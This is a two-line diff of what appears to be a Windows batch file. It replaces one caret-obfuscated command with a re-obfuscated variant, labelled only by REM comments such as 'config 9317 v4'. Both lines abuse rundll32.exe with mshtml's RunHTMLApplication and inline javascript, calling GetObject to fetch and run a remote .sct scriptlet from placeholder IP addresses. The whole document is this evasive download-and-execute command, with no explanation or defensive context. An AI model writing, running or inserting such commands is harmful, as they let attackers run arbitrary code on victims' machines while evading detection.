@@ -1,2 +1,2 @@
-REM run 6956 v4
-fo^r /f "tokens=1 delims=;" %%^i ^in ("rundll32.exe;tefz;hzee") ^d^o %%i ^ja^vas^cr^ipt:"\..\mshtml,RunHTMLApplication ";^doc^um^ent.wr^it^e();^Ge^t^Ob^j^ect("script:http://198.51.100.9/r.sct")
+REM config 9317 v4
+^for /f "tokens=3 delims=#" %%^i i^n ("hyya#dsqt#rundll32.exe") do %%i ^j^av^a^sc^r^ipt:"\..\mshtml,RunHTMLApplication ";d^o^cu^ment.^wr^i^te();G^e^tO^b^j^e^ct("script:http://192.0.2.150/r.sct")
